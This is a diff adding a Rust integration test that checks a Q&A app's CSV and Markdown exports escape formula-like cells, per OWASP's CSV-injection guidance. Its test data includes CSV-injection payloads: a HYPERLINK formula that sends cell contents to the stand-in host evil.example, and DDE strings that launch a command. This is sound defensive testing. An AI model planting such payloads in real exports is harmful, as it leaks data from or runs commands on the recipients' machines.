@@ -969,3 +969,87 @@ async fn a_stuck_store_is_a_503_after_the_timeout() {
         json!({ "error": "service unavailable" })
     );
 }
+
+/// OWASP's CSV-injection rule through the export route: a text or name that starts like a
+/// spreadsheet formula (`=`, `+`, `-`, `@`, tab, carriage return) leaves the CSV and the
+/// Markdown with a leading `'`; the JSON keeps it as asked. The records go in as stored
+/// records, so the tab and carriage return the ask route trims still reach the export.
+#[tokio::test]
+async fn exports_neutralise_cells_that_start_like_a_formula() {
+    let mut app = app().await;
+    let event = app.event().await;
+    let cases = [
+        (
+            '=',
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")",
+        ),
+        ('+', "+1+cmd|' /C calc'!A0"),
+        ('-', "-2+3 is it five?"),
+        ('@', "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ('\t', "\t=1+1 behind a tab"),
+        ('\r', "\r=1+1 behind a carriage return"),
+    ];
+    let mut asked = Vec::new();
+    for (start, text) in cases {
+        let name = format!("{start}Mallory");
+        let qid = app.ask(event, text, Some(&name)).await;
+        asked.push((start, qid, text, name));
+    }
+    let harmless = app.ask(event, "What comes next?", Some("Ada")).await;
+    let base = format!("/api/export/{event}/{SECRET}");
+
+    let csv_export = app.get(&format!("{base}?format=csv")).await;
+    assert_eq!(csv_export.status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(&csv_export.bytes[..]);
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), cases.len() + 1);
+    for (row, (start, qid, text, name)) in rows.iter().zip(&asked) {
+        assert_eq!(&row[0], qid.to_string(), "{start:?}: rows in asking order");
+        assert_eq!(
+            &row[1],
+            format!("'{text}"),
+            "{start:?}: the text in the CSV"
+        );
+        assert_eq!(
+            &row[2],
+            format!("'{name}"),
+            "{start:?}: the name in the CSV"
+        );
+    }
+    assert_eq!(&rows[cases.len()][0], harmless.to_string());
+    assert_eq!(&rows[cases.len()][1], "What comes next?");
+    assert_eq!(&rows[cases.len()][2], "Ada");
+    let raw = String::from_utf8(csv_export.bytes.to_vec()).unwrap();
+    assert!(
+        raw.contains(r#","'=HYPERLINK(""https://evil.example/?""&A1,""see slides"")","#),
+        "the cell is quoted as CSV requires: {raw}"
+    );
+
+    let md = String::from_utf8(app.get(&format!("{base}?format=md")).await.bytes.to_vec()).unwrap();
+    let lines: Vec<&str> = md.lines().collect();
+    assert_eq!(lines.len(), 2 + cases.len() + 1, "{md}");
+    for (line, (start, _, _, name)) in lines[2..].iter().zip(&asked) {
+        let cells: Vec<&str> = line.split(" | ").collect();
+        assert!(
+            cells[1].starts_with('\''),
+            "{start:?}: the text in the Markdown: {line:?}"
+        );
+        // A table cell holds one line, so the Markdown drops the carriage return.
+        let expected = format!("'{name}").replace('\r', "");
+        assert_eq!(cells[2], expected, "{start:?}: the name in the Markdown");
+    }
+    assert!(md.contains("| What comes next? | Ada |"), "{md}");
+
+    let json_rows = app.get(&base).await.json();
+    for (row, (start, _, text, name)) in json_rows.as_array().unwrap().iter().zip(&asked) {
+        assert_eq!(
+            row["text"], *text,
+            "{start:?}: the JSON keeps the text as asked"
+        );
+        assert_eq!(
+            row["who"],
+            name.as_str(),
+            "{start:?}: the JSON keeps the name"
+        );
+    }
+}
